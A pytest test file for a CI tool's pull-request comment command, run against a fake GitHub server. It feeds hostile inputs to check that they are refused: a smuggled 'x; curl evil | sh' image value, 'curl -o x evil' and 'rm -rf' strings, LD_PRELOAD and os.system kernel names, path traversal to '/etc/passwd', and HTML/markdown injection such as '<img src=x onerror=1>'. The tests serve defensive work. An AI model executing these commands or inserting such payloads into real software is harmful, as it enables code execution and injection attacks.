"""The command ``comment`` over real HTTP: what is in the comment, of which report, and when there is one."""

from __future__ import annotations

import ast
import hashlib
import io
import json
import re
import zipfile
from dataclasses import replace
from typing import TYPE_CHECKING

import msgspec
import pytest
from markdown_it import MarkdownIt

from ci_autotest.commands.comment import leg_name
from ci_autotest.commands.output_writer import ended_early
from ci_autotest.commands.report import report
from ci_autotest.github.comment_sections import sections_of
from ci_autotest.report import report_json
from ci_autotest.values.finding import Location
from tests import program_samples as programs
from tests import report_samples as samples
from tests.fakes.github import BOT, NUMBER, SHA, FakeGithub, Fault, Stored, refusal
from tests.fakes.github_server import serving
from tests.objections import FORK, OWN, RUN_ID, STORED, archive_of, arranged, commented, environ_of, published_archive

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from ci_autotest.values.result import RunResult

MARKDOWN = MarkdownIt("commonmark").enable("table")
MISALIGNED = samples.misaligned(findings=(samples.finding(target=programs.OPERATOR),))
OWN_HTML = re.compile(
    r"<!-- [^>]* -->|<a name=\"[\w-]+\">|</a>|</?details>|<summary>(?:(?:<a name=\"[\w-]+\"></a>)?<b>[^<>]*</b>|[^<>]*)</summary>|</?sub>"
)


@pytest.fixture
def github() -> Iterator[FakeGithub]:
    with serving(FakeGithub()) as fake:
        yield fake


def test_comment__of_a_fork__prints_the_program_anew_and_offers_a_replay_in_a_container(github, tmp_path) -> None:
    found = samples.finding(program="import os  # the artifact's own text", replay="curl -o x evil", message="rm -rf")

    _, _, body = published_archive(github, tmp_path, archive_of(samples.misaligned(findings=(found,))))

    assert "y = torch.nn.functional.layer_norm(shifted, (2,), eps=1e-05)  # misaligned" in body
    assert (
        f"""\
```sh
cd "$(git rev-parse --show-toplevel)" &&
  gh pr checkout {NUMBER} --repo octo/kernels &&
  rm -rf autotest-report-77 &&
  gh run download 77 --repo octo/kernels \\
    --name ci-autotest-report --dir autotest-report-77 &&
  docker run --rm --gpus all --network none --read-only --cap-drop ALL \\
    --tmpfs /tmp:exec -v "$(git rev-parse --show-toplevel):/github/workspace:ro" -w /github/workspace \\
    --user "$(id -u):$(id -g)" \\
    ghcr.io/org/ci-autotest:v1-cuda \\
    replay autotest-report-77/findings/layer_norm-3f2a
```"""
        in body
    )
    assert [text for text in ("import os", "curl", "evil", "repro.py") if text in body] == []


#: What a stranger's program names as the kernel: one that the configuration here has, one that is new, or none.
KERNELS = {
    "mykernels.layer_norm": "known", "mykernels.other": "new", "evil.payload": "new", "os.system": "", "subprocess.call": "",
    "builtins.exec": "", "torch.hub.load": "", "torch.ops.evil.run": "", "mykernels.__import__": "",
}  # fmt: skip


def naming(kernel: str) -> str:
    return f"candidates: [{{name: kernels, backend: substitute, replace: {{{samples.OPERATOR}: {kernel}}}}}]"


def archive_naming(kernel: str, **more: object) -> bytes:
    note = {
        "candidate": "kernels", "backend": "substitute", "device": "cpu", "reference_device": "cpu",
        "renames": {samples.OPERATOR: kernel}, "spellings": {kernel: [samples.OPERATOR]}, **more,
    }  # fmt: skip
    program, tensors = programs.edited(("note",), note), programs.files()[1]
    at = "findings/layer_norm-3f2a"
    return archive_of(MISALIGNED, **{f"{at}/program.json": program, f"{at}/tensors.safetensors": tensors})


@pytest.mark.parametrize(("path", "standing"), KERNELS.items())
def test_comment__kernel_of_a_strangers_program__is_called_where_it_is_the_path_of_one(
    github, tmp_path, monkeypatch, path: str, standing: str
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "autotest.yml").write_text(naming("mykernels.layer_norm"))

    _, _, body = published_archive(github, tmp_path, archive_naming(path))

    (shown,) = re.findall(r"```python\n(.*?)```", body, re.DOTALL)
    tree = ast.parse(shown)
    imported = {name.name for node in ast.walk(tree) if isinstance(node, ast.Import) for name in node.names}
    assert imported == {"torch", *([path.partition(".")[0]] if standing else [])}
    assert (f"found = run({path})" in ast.unparse(tree), path in ast.unparse(tree)) == (bool(standing), bool(standing))
    assert shown.startswith("# The kernel is of the pull request:") is (standing == "new")


def test_comment__kernel_of_a_strangers_program_is_no_path__the_program_is_not_shown(github, tmp_path) -> None:
    _, _, body = published_archive(github, tmp_path, archive_naming("a b.c"))

    assert "```python" not in body
    assert samples.OPERATOR in body


@pytest.mark.parametrize(
    "more",
    [
        {"env": {"LD_PRELOAD": "evil.so"}}, {"import": ["evil"]}, {"load": ["evil.so"]},
        {"spellings": {"mykernels.other": [samples.OPERATOR], "os.system": ["torch.exp"]}},
    ],
    ids=str,
)  # fmt: skip
def test_comment__new_kernel_with_settings_that_run_code__is_not_called(github, tmp_path, monkeypatch, more) -> None:
    monkeypatch.chdir(tmp_path)

    _, _, body = published_archive(github, tmp_path, archive_naming("mykernels.other", **more))

    assert "found = run(" not in body


def test_comment__tensors_of_a_fork__are_never_loaded(github, tmp_path) -> None:
    archive = archive_of(MISALIGNED, **{"findings/layer_norm-3f2a/tensors.safetensors": b"not tensors at all"})

    _, _, body = published_archive(github, tmp_path, archive)

    assert "x = torch.ones((1, 2)).requires_grad_()\nb = torch.tensor([-0.0, -0.0])\n" in body
    assert f"/artifacts/900) (sha256 `{hashlib.sha256(archive).hexdigest()}`)" in body
    assert [call for call in github.seen if "authorization" in call.headers and call.path.startswith("/store/")] == []


def test_comment__of_the_repository_itself__replays_without_a_container(github, tmp_path) -> None:
    arranged(github, "run")
    github.heads, github.runs = {NUMBER: OWN}, {RUN_ID: OWN}

    commented(github, "run", tmp_path)

    body = github.bodies(BOT)[152]
    assert (
        f"gh pr checkout {NUMBER} --repo octo/kernels &&\n  rm -rf autotest-report-77 &&\n  gh run download 77" in body
    )
    assert "&&\n  ci-autotest replay autotest-report-77/findings/layer_norm-3f2a\n" in body
    assert "`findings/layer_norm-3f2a/repro.py` in the [artifact](https://github.com/octo/kernels/actions" in body


@pytest.mark.parametrize(("head", "is_foreign"), [(OWN, False), (FORK, True)])
def test_comment__of_a_folder__offers_a_container_for_a_fork_s_alone(github, tmp_path, head, is_foreign) -> None:
    arranged(github, "folder")
    github.heads = {NUMBER: head}

    commented(github, "folder", tmp_path)

    assert ("&&\n  docker run --rm " in github.bodies(BOT)[152]) is is_foreign


def test_comment__links__are_to_the_commit_that_was_tested_and_never_out_of_the_repository(github, tmp_path) -> None:
    found = samples.finding(
        location=msgspec.structs.replace(samples.finding().location, file="../../../../evil/x/blob/a.py")
    )
    environment = msgspec.structs.replace(samples.run().environment, folder="../..")

    _, _, body = published_archive(
        github, tmp_path, archive_of(samples.misaligned(findings=(found,), environment=environment))
    )

    links = [
        child.attrs["href"]
        for token in MARKDOWN.parse(body)
        for child in token.children or []
        if child.tag == "a" and child.attrs
    ]
    assert links == [
        "#user-content-layer_norm-3f2a",
        f"https://github.com/octo/kernels/blob/{'5f' * 20}/evil/x/blob/a.py#L12",
        f"https://github.com/octo/kernels/commit/{'5f' * 20}",
        "https://github.com/octo/kernels/actions/runs/77",
        "https://github.com/octo/kernels/actions/runs/77/artifacts/900",
    ]


def ten_findings() -> RunResult:
    """Return a run with findings of everything that a comment shows: values, gradients, a graph, large tensors."""
    found = [
        samples.finding(
            id=f"op{i}-0000", operator=f"torch.op{i}", target=programs.OPERATOR, kind="gradient" if i % 2 else "value",
            where="gradient of x" if i % 2 else "value of y", headline=f"torch.op{i} on kernels: y is off",
            repro=f"findings/op{i}-0000/repro.py",
        )
        for i in range(10)
    ]  # fmt: skip
    kernels = {f"torch.op{i}": Location(file="src/kernels.py", line=10 + i) for i in range(10)}
    return samples.misaligned(
        findings=tuple(found),
        candidates=(msgspec.structs.replace(samples.KERNELS, kernels=kernels), samples.COMPILED),
    )


def saved_in(archive: bytes, folder: Path) -> None:
    with zipfile.ZipFile(io.BytesIO(archive)) as files:
        files.extractall(folder)


@pytest.mark.parametrize("head", [OWN, FORK], ids=["of the repository", "of a fork"])
@pytest.mark.parametrize("columns", [2, 64, 100])
def test_comment__published_by_the_job_or_by_a_second_workflow__is_the_same(github, tmp_path, head, columns) -> None:
    files = programs.files(columns=columns, negations=3)
    result = ten_findings()
    archive = archive_of(result, **{
        f"findings/{finding.id}/{name}": data
        for finding in result.findings for name, data in zip(("program.json", "tensors.safetensors"), files, strict=True)
    })  # fmt: skip
    saved_in(archive, tmp_path)
    bodies = []
    for way in ("folder", "run"):
        arranged(github, way)
        github.heads, github.runs = {NUMBER: head}, {RUN_ID: head}
        github.artifacts = [replace(STORED, data=archive, repository=head[0])]
        merged = {
            "GITHUB_SHA": "ab" * 20,  # of a pull request it is the merge
            "ARTIFACT_URL": "https://github.com/octo/kernels/actions/runs/77/artifacts/900",
            "ARTIFACT_DIGEST": hashlib.sha256(archive).hexdigest(),
        }
        status, said = commented(github, way, tmp_path, variables=merged)
        assert (status, "(created)" in said) == (0, True), said
        bodies += github.bodies(BOT).values()
        github.comments.clear()

    # Only GitHub says when an artifact was uploaded.
    texts = [re.sub(r" · reported [^·]* UTC", "", body.partition("-->\n\n")[2]) for body in bodies]
    assert texts[0] == texts[1]
    assert "reported 2026-11-20" in bodies[1]
    values = {
        2: "b = torch.tensor([-0.0, -0.0])\n", 64: "b = torch.tensor([-0.0, -0.0, ",
        100: f"| `input_1`, float32\\[100\\] | 400 | `{hashlib.sha256(programs.floats(*range(100))).hexdigest()}` |",
    }  # fmt: skip
    assert bodies[0].count(values[columns]) == 10
    assert bodies[0].count("```mermaid\n") == 10
    assert bodies[0].count(f"https://github.com/octo/kernels/blob/{'5f' * 20}/src/kernels.py#L1") == 10
    assert "ab" * 6 not in bodies[0]


@pytest.mark.parametrize(
    ("values", "said"),
    [
        ({"input_0": [1.0]}, "program.json holds 1 values of 'input_0'"),
        ({"input_0": ["</details><img src=x onerror=1>", "[a](http://evil.example) @org/team"]}, "it is no float32"),
        ({"</details> @org/team [a](http://evil.example) `x` | y": [1.0]}, "which no placeholder names"),
    ],
    ids=["count", "text", "key"],
)
def test_comment__hostile_values__are_refused_in_harmless_words(github, tmp_path, values, said) -> None:
    document = {**json.loads(programs.files()[0]), "values": values}
    archive = archive_of(MISALIGNED, **{"findings/layer_norm-3f2a/program.json": json.dumps(document).encode()})

    status, _, body = published_archive(github, tmp_path, archive)

    assert (status, said in body, "```python" in body) == (0, True, False), body
    assert [text for text in ("<img", "@org/", "(http://", "</details> @") if text in body] == []


@pytest.mark.parametrize(
    "file",
    ["../x.py", "/etc/passwd", "a/../../x.py", "a//x.py", "./x.py", "", "..", "a\\..\\x.py", "https://evil.example/x"],
)
def test_comment__kernel_outside_of_the_repository__is_no_link(github, tmp_path, file) -> None:
    kernels = msgspec.structs.replace(samples.KERNELS, kernels={samples.OPERATOR: Location(file=file, line=3)})

    _, _, body = published_archive(github, tmp_path, archive_of(samples.misaligned(candidates=(kernels,))))

    (row,) = [line for line in body.splitlines() if line.startswith("| kernel |")]
    assert "](" not in row, row


def test_comment__kernel_of_a_hostile_name__is_shown_as_those_characters(github, tmp_path) -> None:
    file = "a/](http:evil.example) <img src=x> `|` @org/team#1"
    kernels = msgspec.structs.replace(samples.KERNELS, kernels={samples.OPERATOR: Location(file=file, line=3)})

    _, _, body = published_archive(github, tmp_path, archive_of(samples.misaligned(candidates=(kernels,))))

    tokens = [child for token in MARKDOWN.parse(body) for child in token.children or []]
    (link,) = [str(token.attrs["href"]) for token in tokens if token.tag == "a" and "evil" in str(token.attrs)]
    assert link.startswith(f"https://github.com/octo/kernels/blob/{'5f' * 20}/a/%5D%28http%3Aevil.example%29%20%3Cimg")
    assert "<img" not in body


@pytest.mark.parametrize(
    ("variables", "image"),
    [
        ({}, "ghcr.io/org/ci-autotest:v1-cuda"),
        ({"AUTOTEST_REPOSITORY": "Acme/ci-autotest"}, "ghcr.io/acme/ci-autotest:v1-cuda"),
        (
            {"AUTOTEST_REPOSITORY": "acme/ci-autotest", "AUTOTEST_IMAGE": "ghcr.io/org/ci-autotest:v1.2.3-cuda"},
            "ghcr.io/acme/ci-autotest:v1.2.3-cuda",
        ),
        (
            {"AUTOTEST_REPOSITORY": "acme/ci-autotest", "AUTOTEST_IMAGE": "registry.example/own:7"},
            "registry.example/own:7",
        ),
        ({"AUTOTEST_IMAGE": "x; curl evil | sh"}, "ghcr.io/org/ci-autotest:v1-cuda"),
        ({"AUTOTEST_REPOSITORY": "../evil"}, "ghcr.io/org/ci-autotest:v1-cuda"),
    ],
)
def test_comment__of_a_fork__names_the_image_of_the_job_and_of_the_device(github, tmp_path, variables, image) -> None:
    _, _, body = published_archive(github, tmp_path, archive_of(MISALIGNED), variables=variables)

    assert f"    {image} \\\n    replay autotest-report-77/" in body


def test_comment__of_a_fork_on_the_cpu__asks_for_no_gpu(github, tmp_path) -> None:
    kernels = msgspec.structs.replace(samples.KERNELS, device="cpu")

    _, _, body = published_archive(
        github, tmp_path, archive_of(samples.misaligned(candidates=(kernels,))),
        variables={"AUTOTEST_IMAGE": "ghcr.io/org/ci-autotest:v1-cuda"},
    )  # fmt: skip

    assert ("--gpus" in body, "    ghcr.io/org/ci-autotest:v1 \\\n" in body) == (False, True)


def test_comment__legs_of_a_matrix__have_a_section_each_in_one_comment(github, tmp_path) -> None:
    arranged(github, "run")
    github.artifacts = [
        replace(STORED, id=901, name="ci-autotest-report-gpu", data=archive_of(MISALIGNED)),
        replace(STORED, id=902, name="ci-autotest-report-cpu", data=archive_of(samples.run())),
        replace(STORED, id=903, name="coverage", data=b""),
        replace(STORED, id=904, name="ci-autotest-report-gpu", data=archive_of(MISALIGNED)),
    ]

    commented(github, "run", tmp_path, output=tmp_path / "read")

    (body,) = github.bodies(BOT).values()
    assert [(section.leg, section.headline) for section in sections_of(body)] == [
        ("cpu", "### ✓ cpu: aligned: 1 test on 2 candidates, 40 cases"),
        ("gpu", "### ✗ gpu: 1 operator misaligned: torch.nn.functional.layer_norm on kernels"),
    ]
    assert "**1 of 2 legs not aligned**" in body
    assert {path.relative_to(tmp_path / "read").as_posix() for path in (tmp_path / "read").rglob("*.json")} == {
        "ci-autotest-report-gpu/report.json", "ci-autotest-report-cpu/report.json"
    }  # fmt: skip


@pytest.mark.parametrize(
    ("artifact", "name"),
    [("report", ""), ("report-gpu", "gpu"), ("report-test-3.11_true", "test-3.11_true"), (f"report-{'x' * 90}", "x" * 53 + "…efdfd9")],
)  # fmt: skip
def test_leg_name__of_an_artifact(artifact: str, name: str) -> None:
    assert leg_name(artifact, "report") == name


def test_comment__only_report_of_a_job_with_the_default_name__needs_no_name(github, tmp_path) -> None:
    arranged(github, "run")
    github.artifacts = [replace(STORED, name="ci-autotest-report-test", data=archive_of(MISALIGNED))]

    commented(github, "run", tmp_path)

    (body,) = github.bodies(BOT).values()
    assert [section.headline for section in sections_of(body)] == [
        "### ✗ 1 operator misaligned: torch.nn.functional.layer_norm on kernels"
    ]


@pytest.mark.parametrize(
    ("artifact", "jobs", "says"),
    [
        ("", [("test", "success"), ("report", None)], "### ✓ aligned"),
        ("-test", [("test", "failure"), ("report", None)], "### ✗ the job 'test' of this run ended with 'failure', and its report"),
        ("-test-3.11_cpu", [("test (3.11, cpu)", "cancelled")], "### ✗ the job 'test (3.11, cpu)' of this run ended with"),
        ("-test", [("lint", "failure"), ("report", None)], "- The job 'lint' of this run ended with 'failure'."),
        ("-test", [("lint", "failure"), ("report", None)], "### ✓ aligned"),
        ("", [("test", "failure"), ("report", None)], "- The job 'test' of this run ended with 'failure'."),
    ],
)  # fmt: skip
def test_comment__from_a_job_of_the_run_itself__is_as_its_jobs_ended(github, tmp_path, artifact, jobs, says) -> None:
    arranged(github, "folder")
    github.artifacts = [replace(STORED, name=f"{STORED.name}{artifact}", data=archive_of(samples.run()))]
    github.conclusions[RUN_ID], github.jobs[RUN_ID] = None, jobs

    status, said = commented(github, "run", tmp_path, event="pull_request", when="always")

    (body,) = github.bodies(BOT).values()
    assert (status, "(created)" in said) == (0, True), said
    assert says in body.replace("\\_", "_")


def test_comment__own_run_on_a_push__looks_at_the_jobs_too(github, tmp_path) -> None:
    arranged(github, "run")
    github.artifacts = [replace(STORED, name=f"{STORED.name}-test", data=archive_of(samples.run()))]
    github.conclusions[RUN_ID] = None
    github.jobs[RUN_ID] = [("test", "failure")]

    commented(github, "run", tmp_path, event="push", when="always")

    assert "### ✗ the job 'test' of this run ended with 'failure'" in github.bodies(BOT)[152]


@pytest.mark.parametrize(("shards", "legs"), [((1, 2), [""]), ((1, 1), ["", "gpu"])])
def test_comment__report_of_the_exact_name__hides_the_shards_that_it_was_merged_from_alone(
    github, tmp_path, shards, legs
) -> None:
    arranged(github, "run")
    github.artifacts = [
        replace(STORED, id=901, name="ci-autotest-report", data=archive_of(samples.run())),
        replace(STORED, id=902, name="ci-autotest-report-gpu", data=archive_of(samples.run(shard=shards))),
    ]

    commented(github, "run", tmp_path, when="always")

    (body,) = github.bodies(BOT).values()
    assert [section.leg for section in sections_of(body)] == legs


def test_comment__jobs_that_the_token_may_not_read__are_not_missed(github, tmp_path) -> None:
    arranged(github, "folder")
    github.plant(refusal("GET", "/jobs$"))

    assert "(created)" in commented(github, "run", tmp_path, event="pull_request")[1]


# --- when there is a comment


@pytest.mark.parametrize(
    ("when", "exit_code", "new", "fixed", "begins"),
    [
        ("always", 0, None, (), True),
        ("failures", 1, None, (), True),
        ("failures", 0, None, (), False),
        ("changes", 0, (), ("kernels torch.relu value",), True),
        ("changes", 1, ("layer_norm-3f2a",), (), True),
        ("changes", 1, (), (), False),
        ("changes", 1, None, (), True),
        ("changes", 0, None, (), False),
    ],
)
def test_comment__policy__says_when_one_begins(github, tmp_path, when, exit_code, new, fixed, begins) -> None:
    result = (samples.misaligned if exit_code else samples.run)(new=new, fixed=fixed, exit_code=exit_code)

    _, said, _ = published_archive(github, tmp_path, archive_of(result), when=when)

    assert ("(created)" in said, "(skipped)" in said) == (begins, not begins)


def test_comment__aligned_again__says_so_in_the_comment_that_is_there(github, tmp_path) -> None:
    published_archive(github, tmp_path, archive_of(MISALIGNED))
    github.artifacts = [replace(STORED, id=905, run_id=78, data=archive_of(samples.run()))]
    github.runs[78] = github.runs[RUN_ID]

    status, said = commented(github, "run", tmp_path, run_id=78)

    (body,) = github.bodies(BOT).values()
    assert (status, "(updated)" in said) == (0, True)
    assert (
        "### ✓ aligned: 1 test on 2 candidates, 40 cases\n\nWhat was misaligned here before is aligned again.\n" in body
    )


def test_comment__run_that_left_no_report__does_not_let_an_older_green_one_stand(github, tmp_path) -> None:
    published_archive(github, tmp_path, archive_of(samples.run()), when="always")
    github.artifacts = []
    github.runs[78] = github.runs[RUN_ID]

    status, said = commented(github, "run", tmp_path, run_id=78)

    (body,) = github.bodies(BOT).values()
    assert (status, "(updated)" in said, "\N{CHECK MARK} aligned" in body) == (0, True, False), said
    assert "### ✗ run 78 ended before it compared anything: it has no artifact 'ci-autotest-report'" in body


def test_comment__run_that_refused_to_begin__says_why(github, tmp_path) -> None:
    early = ended_early("77", ["Try this.", "cases 0 is less than 1."])

    status, said, body = published_archive(github, tmp_path, archive_of(early))

    assert (status, "(created)" in said) == (0, True)
    assert "### ✗ run 77 ended before it compared anything: cases 0 is less than 1." in body
    assert "- Try this." in body


@pytest.mark.parametrize("data", [b"no archive", archive_of(samples.run(), **{"report.json": b"{}"})])
def test_comment__report_that_cannot_be_read__does_not_let_an_older_green_one_stand(github, tmp_path, data) -> None:
    published_archive(github, tmp_path, archive_of(samples.run()), when="always")
    github.artifacts = [replace(STORED, run_id=78, data=data)]
    github.runs[78] = github.runs[RUN_ID]

    status, said = commented(github, "run", tmp_path, run_id=78)

    (body,) = github.bodies(BOT).values()
    assert (status, "(updated)" in said, "\N{CHECK MARK} aligned" in body) == (0, True, False), said
    assert "### \N{BALLOT X} run 78 has a report that cannot be read: " in body


@pytest.mark.parametrize("conclusion", ["failure", "cancelled", "timed_out"])
def test_comment__run_that_failed_with_a_green_report__is_not_green(github, tmp_path, conclusion) -> None:
    github.conclusions[RUN_ID] = conclusion

    status, _, body = published_archive(github, tmp_path, archive_of(samples.run()), when="always")

    assert (status, "\N{CHECK MARK}" in body) == (0, False)
    assert f"### \N{BALLOT X} run 77 ended with '{conclusion}', and its reports do not say why" in body.replace(
        "\\_", "_"
    )


def test_comment__run_that_failed_as_its_report_says__is_told_by_the_report_alone(github, tmp_path) -> None:
    github.conclusions[RUN_ID] = "failure"

    _, _, body = published_archive(github, tmp_path, archive_of(MISALIGNED))

    assert "### \N{BALLOT X} 1 operator misaligned" in body


@pytest.mark.parametrize(
    ("result", "says"),
    [
        (MISALIGNED, "This report is of an earlier attempt of run 77: attempt 1 has left none here."),
        (
            samples.run(),
            "### \N{CHECK MARK} aligned",
        ),  # A job that passed is left out when those that failed run again.
    ],
    ids=["failed then", "passed then"],
)
def test_comment__report_of_an_earlier_attempt__says_so_if_its_job_failed(github, tmp_path, result, says) -> None:
    published_archive(github, tmp_path, archive_of(result), when="always")
    github.attempts[RUN_ID] = "2026-11-20T11:00:00Z"

    commented(github, "run", tmp_path)

    (body,) = github.bodies(BOT).values()
    assert says in body


# --- against the base branch


def based(github: FakeGithub, *artifacts: Stored) -> None:
    arranged(github, "run")
    github.artifacts = [replace(STORED, id=910, data=archive_of(MISALIGNED)), *artifacts]


OLD = samples.finding(id="relu-0001", operator="torch.relu", target="torch.relu", case=1)
BASE = Stored(
    id=500, name="ci-autotest-report", run_id=60, branch="main", data=archive_of(samples.misaligned(findings=(OLD,)))
)


def test_comment__baseline_auto__is_the_base_branch_s_last_report(github, tmp_path) -> None:
    newer = archive_of(samples.misaligned(findings=(samples.finding(),)))
    based(
        github,
        BASE,
        replace(BASE, id=501, run_id=61, branch="other", data=newer),
        replace(BASE, id=502, run_id=62, repository="mallory/kernels", data=newer),  # a fork's branch of the same name
        replace(BASE, id=503, run_id=63, expired=True, data=newer),
        replace(BASE, id=504, run_id=64, name="ci-autotest-report-2", data=newer),
        replace(BASE, id=505, run_id=RUN_ID, data=newer),  # of the run itself, before it was run again
    )  # fmt: skip

    commented(github, "run", tmp_path, baseline="auto")

    assert (
        "Findings against the baseline: 1 new, 0 still there, 0 known, 1 fixed: `kernels torch.relu value`."
        in github.bodies(BOT)[152]
    )


IN_PULL, LATER, MERGE = "1a" * 20, "2b" * 20, "3c" * 20
STILL = archive_of(samples.misaligned(findings=(samples.finding(target=programs.OPERATOR),)))


@pytest.mark.parametrize(
    ("bases", "told"),
    [
        pytest.param(
            [replace(BASE, sha=IN_PULL), replace(BASE, id=501, run_id=61, sha=LATER, data=STILL)],
            "commit 1a1a1a1a1a1a of branch 'main' (run 60).",
            id="a later commit of the base branch",
        ),
        pytest.param(
            [replace(BASE, sha=LATER)],
            "commit 2b2b2b2b2b2b of branch 'main' (run 60), which is not known to be before the tested commit.",
            id="nothing else",
        ),
        pytest.param(
            [
                replace(BASE, sha=IN_PULL),
                replace(BASE, id=501, run_id=61, sha=IN_PULL, data=archive_of(ended_early("61", ["no torch"]))),
                replace(BASE, id=502, run_id=62, sha=IN_PULL, data=archive_of(samples.run(interrupted=True, exit_code=130))),
            ],
            "commit 1a1a1a1a1a1a of branch 'main' (run 60).",
            id="runs that did not go to their end",
        ),
    ],
)  # fmt: skip
def test_comment__baseline_auto__is_complete_and_before_the_pull_request(github, tmp_path, bases, told) -> None:
    based(github, *bases)
    github.history[SHA] = [IN_PULL]

    commented(github, "run", tmp_path, baseline="auto")

    body = github.bodies(BOT)[152]
    assert "Findings against the baseline: 1 new, 0 still there, 0 known, 1 fixed" in body
    assert f"The baseline is the report of {told}" in body.replace("\\", "")


@pytest.mark.parametrize(("parents", "commit"), [([SHA, LATER], "2b2b2b2b2b2b"), ([LATER], "1a1a1a1a1a1a")])
def test_comment__baseline_of_a_tested_merge__is_of_the_merge_if_the_head_is_in_it(
    github, tmp_path, parents, commit
) -> None:
    based(github, replace(BASE, sha=IN_PULL), replace(BASE, id=501, run_id=61, sha=LATER))
    tested = msgspec.structs.replace(MISALIGNED.environment, commit=MERGE)
    merged = archive_of(msgspec.structs.replace(MISALIGNED, environment=tested))
    github.artifacts[0] = replace(github.artifacts[0], data=merged)
    github.history = {MERGE: parents, SHA: [IN_PULL]}

    commented(github, "run", tmp_path, baseline="auto")

    assert f"The baseline is the report of commit {commit} of branch 'main'" in github.bodies(BOT)[152]


@pytest.mark.parametrize(
    ("base", "fault", "note"),
    [
        pytest.param([], None, "branch 'main' has no complete report 'ci-autotest-report'", id="none"),
        pytest.param([BASE], refusal("GET", "actions/artifacts$"), "lacks \\`actions: read\\`", id="no permission"),
        pytest.param([replace(BASE, data=b"<html>")], None, "branch 'main' has no complete report", id="damaged"),
        pytest.param(
            [BASE], Fault(method="GET", path="500/zip", status=410), "lacks \\`actions: read\\`", id="expired"
        ),
    ],
)
def test_comment__baseline_cannot_be_had__is_told_and_ends_nothing(github, tmp_path, base, fault, note) -> None:
    based(github, *base)
    if fault:
        github.plant(fault)

    status, said = commented(github, "run", tmp_path, baseline="auto")

    assert (status, "(created)" in said) == (0, True)
    assert note in github.bodies(BOT)[152].replace("\\_", "_")
    assert "against the baseline" not in github.bodies(BOT)[152]


@pytest.mark.parametrize(
    "fault", [None, refusal("GET", "actions/artifacts$"), Fault(method="GET", path="500/zip", status=410)]
)
def test_comment__baseline_that_nobody_asked_for__is_not_missed(github, tmp_path, fault) -> None:
    based(github, *([BASE] if fault else []))
    if fault:
        github.plant(fault)

    commented(github, "run", tmp_path, baseline="auto-if-any")

    assert "baseline" not in github.bodies(BOT)[152]


def test_comment__baseline_that_nobody_asked_for_and_is_there__is_compared_with(github, tmp_path) -> None:
    based(github, BASE)

    commented(github, "run", tmp_path, baseline="auto-if-any")

    assert "Findings against the baseline: 1 new, 0 still there, 0 known, 1 fixed" in github.bodies(BOT)[152]


def test_comment__baseline_in_a_folder__is_read(github, tmp_path) -> None:
    based(github)
    report_json.write(samples.misaligned(findings=(OLD,)), tmp_path / "base.json")

    commented(github, "run", tmp_path, baseline=str(tmp_path / "base.json"))

    assert "1 fixed: `kernels torch.relu value`" in github.bodies(BOT)[152]


def test_comment__part_of_a_run_and_tests_that_compared_nothing__fix_nothing(github, tmp_path) -> None:
    partial = samples.misaligned(is_partial=True)
    silent = samples.misaligned(
        results=(samples.failed(), samples.rejected("autotests/autotest_x.py::relu", "kernels"))
    )
    elsewhere = msgspec.structs.replace(OLD, test="autotests/autotest_x.py::relu")
    report_json.write(samples.misaligned(findings=(elsewhere,)), tmp_path / "base.json")

    for result in (partial, silent):
        _, _, body = published_archive(github, tmp_path, archive_of(result), baseline=str(tmp_path / "base.json"))
        github.comments.clear()
        assert "1 new, 0 still there, 0 known, 0 fixed" in body


def test_comment__known_difference__is_neither_new_nor_still_there(github, tmp_path) -> None:
    result = samples.misaligned(findings=(samples.finding(known="half precision"),), exit_code=0)
    report_json.write(samples.misaligned(), tmp_path / "base.json")

    _, _, body = published_archive(
        github, tmp_path, archive_of(result), baseline=str(tmp_path / "base.json"), when="always"
    )

    assert "Findings against the baseline: 0 new, 0 still there, 1 known, 0 fixed." in body


@pytest.mark.parametrize(
    ("fail_on", "base", "status"), [("new", OLD, 1), ("new", samples.finding(), 0), ("misaligned", OLD, 1)]
)
def test_report__baseline_auto__tells_new_from_old_when_shards_are_merged(
    github, tmp_path, fail_on, base, status
) -> None:
    arranged(github, "run")
    github.artifacts = [replace(BASE, data=archive_of(samples.misaligned(findings=(base,))))]
    for shard in (1, 2):
        (tmp_path / str(shard)).mkdir()
        report_json.write(samples.misaligned(shard=(shard, 2)), tmp_path / str(shard) / "report.json")
    environ = {**environ_of(github, "run", tmp_path, "push"), "GITHUB_REF_NAME": "main"}

    result = report(
        (tmp_path / "1", tmp_path / "2"), tmp_path / "out", fail_on, ("auto", "ci-autotest-report"), environ
    )

    is_new = base is OLD
    assert (result.exit_code, result.new) == (status, ("layer_norm-3f2a",) if is_new else ())
    assert report_json.read(tmp_path / "out" / "report.json").new == result.new


def test_comment__enterprise_server__is_asked_where_it_is(tmp_path) -> None:
    with serving(FakeGithub(mount="/api/v3")) as github:
        for way in ("folder", "run"):
            arranged(github, way)
            status, said = commented(github, way, tmp_path)
            assert (status, "(created)" in said) == (0, True), said
            github.comments.clear()


# --- how often GitHub is asked


@pytest.mark.parametrize(("way", "changes", "calls"), [("folder", {}, 4), ("run", {"baseline": "auto"}, 9)])
def test_comment__plain_case__asks_this_often(github, tmp_path, way, changes, calls) -> None:
    arranged(github, way)
    github.artifacts.append(BASE)

    commented(github, way, tmp_path, event="workflow_run", **changes)

    assert len([seen for seen in github.seen if not seen.path.startswith("/store/")]) == calls


def test_comment__artifact_name_that_leads_out__is_refused(github, tmp_path) -> None:
    status, said, _ = published_archive(github, tmp_path, b"", artifact_name="../x")

    assert (status, said) == (
        2, "artifact name '../x' is not allowed. Use letters, digits, '_', '.', '-' and blanks only."
    )  # fmt: skip


def test_comment__neither_folder_nor_run__says_what_to_give(github, tmp_path) -> None:
    arranged(github, "run")

    assert commented(github, "run", tmp_path, run_id=None) == (
        2, "comment takes the folder of a report, or --run-id: give one of them."
    )  # fmt: skip
